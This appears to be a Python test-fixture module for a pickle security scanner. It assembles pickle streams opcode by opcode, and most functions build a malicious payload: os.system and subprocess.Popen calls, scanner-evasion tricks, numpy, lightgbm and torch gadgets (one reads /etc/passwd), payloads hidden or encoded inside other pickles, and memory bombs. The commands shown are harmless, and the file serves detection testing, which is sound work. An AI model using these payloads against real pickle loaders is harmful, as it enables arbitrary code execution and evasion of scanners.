"""Pickle programs written opcode by opcode: an assembler with names, and every known trick as a function.

Nothing here is loaded by any test; the commands in them are harmless all the same.
"""

from __future__ import annotations

import base64
import pickle
import struct

COMMAND = "echo pwned"


# -- the assembler


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def frame(body: bytes, length: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def text(value: str) -> bytes:
    """BINUNICODE, or SHORT_BINUNICODE where only protocol 4 has it: the shorter one is enough for tests."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value.encode())]) + value.encode()


def line(value: str) -> bytes:
    """STRING of protocol 0."""
    return f"S{value!r}\n".encode()


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    return short(module) + short(name) + b"\x93"


def args(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(callee: bytes, *items: bytes) -> bytes:
    return callee + args(*items) + b"R"


SYSTEM = glob("os", "system")
STOP = b"."


# -- tricks, each a whole stream


def os_system(command: str = COMMAND) -> bytes:
    return call(SYSTEM, line(command)) + STOP


def protocol_2(command: str = COMMAND) -> bytes:
    return proto(2) + glob("posix", "system") + text(command) + b"\x85R."


def by_stack_global(command: str = COMMAND) -> bytes:
    return proto(4) + stack_global("os", "system") + b"\x94" + short(command) + b"\x85R."


def names_from_memo() -> bytes:
    """The operands of STACK_GLOBAL are put into the memo long before, in the wrong order."""
    return (
        proto(4)
        + short("system")
        + b"q\x07"
        + b"0"
        + short("os")
        + b"q\x03"
        + b"0"
        + b"h\x03h\x07\x93"
        + short("id")
        + b"\x85R."
    )


def name_computed() -> bytes:
    """STACK_GLOBAL on what a call returned: no text in the stream says `os`."""
    made = call(glob("builtins", "str"), data(b"os"), text("utf8"))
    return proto(4) + made + short("system") + b"\x93" + short("id") + b"\x85R."


def dotted() -> bytes:
    """Protocol 4 walks attributes: logging imports os."""
    return proto(4) + stack_global("logging", "os.system") + short("id") + b"\x85R."


def python_2_builtin() -> bytes:
    return call(glob("__builtin__", "eval"), line("1+1")) + STOP


def inst() -> bytes:
    return b"(" + line("id") + b"ios\nsystem\n."


def obj_then_pop() -> bytes:
    """OBJ calls, POP hides the result, the stream ends as None."""
    return b"(" + SYSTEM + line("id") + b"o0N."


def newobj() -> bytes:
    return proto(2) + glob("subprocess", "Popen") + args(text("id")) + b"\x81."


def newobj_ex() -> bytes:
    return proto(4) + stack_global("subprocess", "Popen") + short("id") + b"\x85}" + short("shell") + b"\x88s\x92."


def getattr_chain() -> bytes:
    module = call(glob("builtins", "__import__"), line("os"))
    return call(call(glob("builtins", "getattr"), module, line("system")), line("id")) + STOP


def attrgetter_chain() -> bytes:
    module = call(glob("importlib", "import_module"), line("os"))
    getter = call(glob("operator", "attrgetter"), line("system"))
    return call(call(getter, module), line("id")) + STOP


def partial() -> bytes:
    return call(call(glob("functools", "partial"), SYSTEM, line("id"))) + STOP


def partial_rewired() -> bytes:
    """A harmless partial gets another function by BUILD."""
    made = call(glob("functools", "partial"), glob("builtins", "len"))
    return made + args(SYSTEM, args(line("id")), b"}", b"N") + b"b" + args() + b"R."


def ufunc_import() -> bytes:
    return call(call(glob("numpy.core", "_ufunc_reconstruct"), line("os"), line("system")), line("id")) + STOP


def reconstructor() -> bytes:
    return (
        call(glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"), glob("__builtin__", "object"), b"N")
        + STOP
    )


def random_generator(callee: bytes) -> bytes:
    """The unpickling helper of numpy calls its second argument with its first."""
    return call(glob("numpy.random._pickle", "__generator_ctor"), line("id"), callee) + STOP


def booster_from_file() -> bytes:
    return call(glob("lightgbm.basic", "Booster"), b"N", b"N", line("/etc/passwd")) + STOP


def breaks_after_payload() -> bytes:
    return os_system()[:-1] + b"\xff\xff\xff"


def truncated_after_payload() -> bytes:
    return os_system()[:-1]


def payload_in_second_stream() -> bytes:
    return pickle.dumps([1, 2, 3]) + os_system()


def payload_nested() -> bytes:
    return pickle.dumps({"state": protocol_2()})


def payload_as_text(encoding: str, protocol: int) -> bytes:
    """A payload that a program would decode and load: base64, base64url (in lines) or hex."""
    data = protocol_2("echo pwned??>>")
    lines = base64.encodebytes(data).decode().translate(str.maketrans("+/", "-_"))
    text = {"base64": base64.b64encode(data).decode(), "base64url": lines, "hex": data.hex()}[encoding]
    return pickle.dumps({"state": text, "bytes": text.encode()}, protocol)


def elf() -> bytes:
    """The header of a program for Linux on x86-64 (System V ABI)."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(40)


def windows_program(signature: bytes = b"PE\0\0") -> bytes:
    """The headers of a program for Windows, whose first one says where the second is."""
    return b"MZ" + bytes(58) + (0x80).to_bytes(4, "little") + bytes(64) + signature + bytes(40)


def payload_nested_times(count: int) -> bytes:
    data = protocol_2()
    for _ in range(count):
        data = pickle.dumps([data], 4)
    return data


def build_changes_class() -> bytes:
    """The slot state of BUILD is set with setattr, on a class as on anything."""
    return proto(2) + glob("collections", "OrderedDict") + b"(N}" + text("get") + b"K\x01stb."


def item_of_import() -> bytes:
    return proto(2) + glob("sys", "modules") + text("json") + b"Ns."


def extension() -> bytes:
    return proto(2) + b"\x82\x05."


def persistent() -> bytes:
    return b"Psome id\n."


def codec() -> bytes:
    return call(glob("_codecs", "encode"), line("a"), line("zlib_codec")) + STOP


def frame_straddled() -> bytes:
    return proto(4) + frame(short("hello"), 3) + STOP


def frame_divergence() -> bytes:
    """A length that one reader takes over a frame's end and another does not (cpython issue 154848)."""
    inner = call(glob("builtins", "print"), text("x")) + b"("
    return proto(5) + b"(" + frame(b"", 2) + b"B\x07\x01\x00\x00" + b"\0\0" + inner.ljust(261, b"N") + b"1N."


def own_class() -> bytes:
    return proto(2) + glob("mycorp.nn", "Encoder") + b")\x81}" + text("width") + b"K\x05sb."


def own_function() -> bytes:
    return proto(2) + call(glob("mycorp.io", "rebuild"), text("x")) + STOP


def ordinary(version: int) -> bytes:
    """What a harmless program saves."""
    from collections import OrderedDict
    from datetime import date

    value = {
        "a": [1, 2.5, None, True],
        "b": OrderedDict(x=(1, 2, 3, 4)),
        "c": {1, 2},
        "d": b"bytes",
        "e": date(2020, 1, 2),
    }
    return pickle.dumps(value, version)


def memo_bomb(count: int) -> bytes:
    """LONG_BINPUT at far indices: a loader's memo array grows to the highest."""
    return proto(2) + b"N" + b"".join(b"r" + struct.pack("<I", 1 << 20 | i << 1) for i in range(count)) + STOP


def marks(count: int) -> bytes:
    return b"(" * count + STOP


def nested_tuples(count: int) -> bytes:
    return proto(2) + b")" + b"\x85" * count + STOP


def laughs(levels: int) -> bytes:
    """Each list holds the one before twice."""
    body = b"".join(b"(h" + bytes([i]) + b"h" + bytes([i]) + b"lq" + bytes([i + 1]) for i in range(levels))
    return b"]q\x00" + body + SYSTEM + b"h" + bytes([levels]) + b"\x85R."


def text_files() -> dict[str, bytes]:
    """Harmless files that begin with bytes that are opcodes."""
    return {
        "words.txt": b"cat\ndog\nbird\n(not a pickle)\n",
        "imports.c": b"(void)x;\ncos\nsin\nint main() { return 0; }\n",
        "numbers.csv": b"I,1\nJ,2\nK,3\n",
        "readme.md": b"Nothing.\nUsage: see below\nTest it.\n",
        "set.json": b"]}",
        "short.txt": b"N.",
        "config.ini": b"[section]\nkey=value\n",
        "none.txt": b"None.\n",
        "list.txt": b"I1\n.",
    }


def late(*, before: bytes = b"") -> bytes:
    """Protocol 0, and 70,000 harmless bytes before the payload."""
    return before + line("a" * 70_000) + b"0" + os_system()


def late_by_opcodes() -> bytes:
    """The same with many short opcodes."""
    return b"I1\n0" * 30_000 + os_system()


def after_an_empty_stream() -> bytes:
    """The first stream does nothing; a program that loads twice gets the second."""
    return b"N." + os_system()


def storage(inner: bytes) -> bytes:
    """A torch storage inside of a plain pickle: opcodes that leave it on the stack."""
    return stack_global("torch.storage", "_load_from_bytes") + data(inner) + b"\x85R"


def storages_in_storages(levels: int) -> bytes:
    """Each level's bytes are a pickle that loads the next; the last one is the payload."""
    stream = protocol_2()
    for _ in range(levels):
        stream = proto(4) + storage(stream) + STOP
    return stream


def storage_after_many(count: int) -> bytes:
    """Many harmless storages before the one with the payload."""
    return proto(4) + args(*[storage(proto(2) + b"K\x01.")] * count, storage(protocol_2())) + STOP


def broken_storage() -> bytes:
    return proto(4) + storage(proto(2) + b"K\x01") + STOP


def behind_raw_bytes(payload: bytes) -> bytes:
    """A pickle, bytes that are none, and another: as torch's tar archives hold them."""
    return proto(2) + b"K\x02." + bytes(range(0xA0, 0xFF)) * 50 + payload + bytes(20)


def many_streams(count: int) -> bytes:
    """What a program that logs with pickle.dump writes."""
    return b"".join(pickle.dumps({"step": step, "loss": [1.0] * 50}) for step in range(count))


def memo_of_an_older_stream(between: int) -> bytes:
    """The names are in the memo of the first stream, for a loader that keeps its Unpickler."""
    first = text("os") + b"q\x64" + text("system") + b"q\x65."
    return first + (proto(4) + b"N.") * between + proto(4) + b"h\x64h\x65\x93" + text("id") + b"\x85R."


def state_dict_of_python_2() -> bytes:
    """How torch 0.4 on Python 2 kept a state dict: its metadata is an attribute, an OrderedDict made of pairs."""
    ordered = glob("collections", "OrderedDict")
    metadata = call(ordered, b"](](" + text("") + b"}" + text("version") + b"K\x01see")
    return proto(2) + call(ordered, b"]") + b"}" + text("_metadata") + metadata + b"sb."
